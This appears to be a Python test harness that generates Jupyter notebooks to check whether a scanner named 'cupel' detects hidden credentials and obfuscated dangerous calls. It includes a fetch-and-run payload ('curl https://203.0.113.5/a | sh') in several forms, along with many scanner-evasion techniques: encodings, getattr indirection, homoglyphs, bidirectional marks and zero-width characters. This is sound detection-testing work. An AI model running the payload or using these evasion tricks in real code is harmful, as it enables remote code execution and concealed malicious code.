#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Secrets and dangerous calls, written so that a search does not find them, and how many `cupel scan` still finds.

    evasion.py CUPEL [--seed N] [--missed] [--keep FOLDER]

One notebook per case: a credential of a type or a call, times a way to hide it. A hidden secret counts when a secret is found in
the notebook; a hidden call when a rule of code of at least medium severity is. Exit code 1 below 98 %."""

import argparse
import base64
import codecs
import collections
import json
import os
import random
import subprocess
import sys
import tempfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import credentials  # noqa: E402
from planted import ROOT, Plant, code, halves, notebook, output, q, stream  # noqa: E402

TYPES = ["openai-legacy-key", "anthropic-api-key", "huggingface-user-token", "google-api-key", "groq-api-key", "aws-access-key-id", "digitalocean-personal-token",
         "databricks-token", "slack-bot-token", "telegram-bot-token", "sendgrid-api-key", "stripe-secret-key"]


def numbers(text):
    return ", ".join(str(ord(c)) for c in text)


def thirds(text):
    cut = len(text) // 3 + 1
    return [text[i: i + cut] for i in range(0, len(text), cut)]


def entities(text):
    return "".join(f"&#{ord(c)};" for c in text)


# How a text is written as a Python expression.
EXPRESSIONS = {
    "split with +": lambda t: " + ".join(q(part) for part in thirds(t)),
    "split side by side": lambda t: "(" + "\n    ".join(q(part) for part in thirds(t)) + ")",
    "joined list": lambda t: '"".join([' + ", ".join(q(part) for part in thirds(t)) + "])",
    "reversed slice": lambda t: q(t[::-1]) + "[::-1]",
    "chr list": lambda t: f'"".join(chr(c) for c in [{numbers(t)}])',
    "map chr": lambda t: f'"".join(map(chr, [{numbers(t)}]))',
    "chr sum": lambda t: " + ".join(f"chr({ord(c)})" for c in t),
    "byte list": lambda t: f"bytes([{numbers(t)}]).decode()",
    "byte array": lambda t: f"bytearray([{numbers(t)}]).decode()",
    "hex": lambda t: f"bytes.fromhex({q(t.encode().hex())}).decode()",
    "base64": lambda t: f"__import__('base64').b64decode({q(base64.b64encode(t.encode()).decode())}).decode()",
    "zlib in base64": lambda t: "__import__('zlib').decompress(__import__('base64').b64decode("
    + q(base64.b64encode(zlib.compress(t.encode())).decode()) + ")).decode()",
    "escapes": lambda t: '"' + "".join(f"\\x{ord(c):02x}" for c in t) + '"',
    "percent format": lambda t: f"{q('%s%s')} % ({q(halves(t)[0])}, {q(halves(t)[1])})",
    "brace format": lambda t: f"{q('{}{}')}.format({q(halves(t)[0])}, {q(halves(t)[1])})",
}
# More ways for the names of calls: what runs is known only after folding.
CALL_EXPRESSIONS = {
    **EXPRESSIONS,
    "rot13": lambda t: f"__import__('codecs').decode({q(codecs.encode(t, 'rot13'))}, 'rot13')",
    "replaced letters": lambda t: q("Q".join(t)) + ".replace('Q', '')",
    "reversed()": lambda t: f'"".join(reversed({q(t[::-1])}))',
    "exclusive or": lambda t: f'"".join(chr(c ^ 7) for c in [{", ".join(str(ord(c) ^ 7) for c in t)}])',
}
# Characters that have no width.
UNSEEN = {"zero width": "\u200b", "zero width joiner": "\u200d", "word joiner": "\u2060", "soft hyphen": "\u00ad", "byte order mark": "\ufeff"}
# Ways round the name of module.function, given an expression maker.
REACHES = {
    "getattr": lambda make, module, name: f"import {module}\ngetattr({module}, {make(name)})(value)",
    "getattr of __import__": lambda make, module, name: f"getattr(__import__({make(module)}), {make(name)})(value)",
    "__dict__": lambda make, module, name: f"import {module}\n{module}.__dict__[{make(name)}](value)",
    "vars": lambda make, module, name: f"import {module}\nvars({module})[{make(name)}](value)",
    "importlib": lambda make, module, name: f"import importlib\nm = importlib.import_module({make(module)})\nm.{name}(value)",
    "two cells of names": lambda make, module, name: f"import {module}\nn = {make(name)}\nf = getattr({module}, n)\nf(value)",
}
CALLS = [("os", "system"), ("os", "popen"), ("builtins", "eval"), ("builtins", "exec"), ("pickle", "loads"), ("marshal", "loads")]
PAYLOAD = "import os; os.system('curl https://203.0.113.5/a | sh')"
PAYLOADS = {
    "exec of %s": lambda make: f"exec({make(PAYLOAD)})",
    "eval of compile of %s": lambda make: f"eval(compile({make(PAYLOAD)}, 'x', 'exec'))",
    "exec by another name of %s": lambda make: f"run = exec\ncode = {make(PAYLOAD)}\nrun(code)",
}
ALIASES = {
    "import as": "import os as o\no.system(value)",
    "from import as": "from os import system as s\ns(value)",
    "assigned module": "import os\no = os\no.system(value)",
    "assigned function": "import subprocess\nr = subprocess.Popen\nr(value, shell=True)",
    "partial": "import os, functools\nfunctools.partial(os.system, value)()",
    "map": "import os\nlist(map(os.system, values))",
    "globals": "globals()['__builtins__'].eval(value)",
    "sys.modules": "import os, sys\nsys.modules['os'].system(value)",
    "look-alike letters": "\uff45\uff56\uff41\uff4c\uff45\uff58(value)\n\uff45\uff58\uff45\uff43\uff45\uff58(value)",
    "one strange letter": "syst\u0435m_call = 1",
    "direction marks": "user = 'a\u202e \u2066# b\u2069 \u2066'",
    "zero width": "pass\u200bword = 1",
    "far to the right": "x = 1" + " " * 220 + "; __import__('os').system(value)",
    "tags": "x = 'a" + "".join(chr(0xE0000 + ord(c)) for c in "run") + "'",
    "handed over": "import threading, os\nthreading.Thread(target=os.system, args=(value,)).start()",
    "__call__": "eval.__call__(value)",
    "magic call": "get_ipython().system('curl https://203.0.113.5/a | sh')",
    "shell quotes": "!c''url -s https://203.0.113.5/a | b\\ash",
}


def secret_cases(seed):
    rng = random.Random(seed)
    rows = {row["id"]: row for row in credentials.read_rows(os.path.join(ROOT, "resources/rules/secrets"))}
    words = os.path.join(ROOT, "resources/rules/words/bip39_english.txt")
    chosen = [name for name in TYPES if name in rows] or sorted(rows)[:14]
    for name in chosen:
        made = credentials.plantable(rows[name], rng, words)
        if not made:
            continue
        plant = Plant(rows[name], *made)
        for way, make in EXPRESSIONS.items():
            yield f"secret: {way}", [code(plant.assign(make(plant.text)))]
        yield "secret: entities", [code("show()", output({"text/html": [f"<p>{plant.name} = {entities(plant.text)}</p>"]}))]
        spread = "\u200b".join(thirds(plant.text))
        yield "secret: zero width", [code("show()", output({"text/html": [f"<p>{plant.name} = {spread}</p>"]}))]
        for mark, letter in UNSEEN.items():
            spread = letter.join(thirds(plant.text))
            yield f"secret: {mark} in code", [code(plant.assign(q(spread)))]
            yield f"secret: {mark} in a stream", [code("show()", stream("stdout", f"{plant.name} = {spread}\n"))]
        spread = "\\u200b".join(thirds(plant.text))
        yield "secret: zero width as an escape", [code(plant.assign('"' + spread + '".replace("\\u200b", "")'))]
        named = "&ZeroWidthSpace;".join(thirds(plant.text)) + "&shy;"
        yield "secret: zero width as an entity", [code("show()", output({"text/html": [f"<p>{plant.name} = {named}</p>"]}))]
        hexed = "".join(f"&#x{ord(c):X};" for c in plant.text)
        yield "secret: hexadecimal entities", [{"cell_type": "markdown", "id": "hex", "metadata": {}, "source": f"{plant.name} = {hexed}"}]
        yield "secret: colour before it", [code("show()", stream("stdout", f"{plant.name} = \x1b[1;32m{plant.text}\x1b[0m\n"))]
        tags = "</b><b>".join(thirds(plant.text))
        yield "secret: tags", [code("show()", output({"text/html": [f"<p>{plant.name} = <b>{tags}</b></p>"]}))]


def code_cases():
    for way, make in CALL_EXPRESSIONS.items():
        for module, name in CALLS:
            for reach, write in REACHES.items():
                yield f"call: {reach}, {way}", [code(write(make, module, name))]
        for shape, write in PAYLOADS.items():
            yield "call: " + shape % way, [code(write(make))]
    for way, source in ALIASES.items():
        yield f"call: {way}", [code(source)]


def main():
    arguments = argparse.ArgumentParser(description=__doc__)
    arguments.add_argument("cupel")
    arguments.add_argument("--seed", type=int, default=1)
    arguments.add_argument("--missed", action="store_true")
    arguments.add_argument("--keep")
    options = arguments.parse_args()
    with tempfile.TemporaryDirectory() as temporary:
        folder = options.keep or temporary
        os.makedirs(folder, exist_ok=True)
        names = []
        for way, cells in [*secret_cases(options.seed), *code_cases()]:
            names.append(way)
            with open(os.path.join(folder, f"{len(names) - 1:05}.ipynb"), "w", encoding="utf-8") as file:
                json.dump(notebook(cells), file, ensure_ascii=False)
        text = subprocess.run([options.cupel, "scan", folder, "-f", "json"], stdout=subprocess.PIPE, check=False).stdout
    found = set()
    for entry in json.loads(text)["findings"]:
        number = int(os.path.basename(entry["artifact"]).split(".")[0])
        secret = names[number].startswith("secret")
        strong = entry["severity"] in ("medium", "high", "critical")
        if (secret and entry["family"] == "secret") or (not secret and entry["rule"].startswith("CUP-CODE-") and strong):
            found.add(number)
    groups = collections.defaultdict(lambda: [0, 0])
    for number, way in enumerate(names):
        groups[way.split(":")[0]][0] += number in found
        groups[way.split(":")[0]][1] += 1
        if options.missed and number not in found:
            print(f"missed {number:05} {way}")
    for group, (good, every) in sorted(groups.items()):
        print(f"{group}s: {good} of {every} ({100 * good / every:.1f} %)")
    share = 100 * len(found) / len(names)
    print(f"{len(found)} of {len(names)} hidden ones are found ({share:.2f} %)")
    return 0 if share >= 98 else 1


if __name__ == "__main__":
    sys.exit(main())
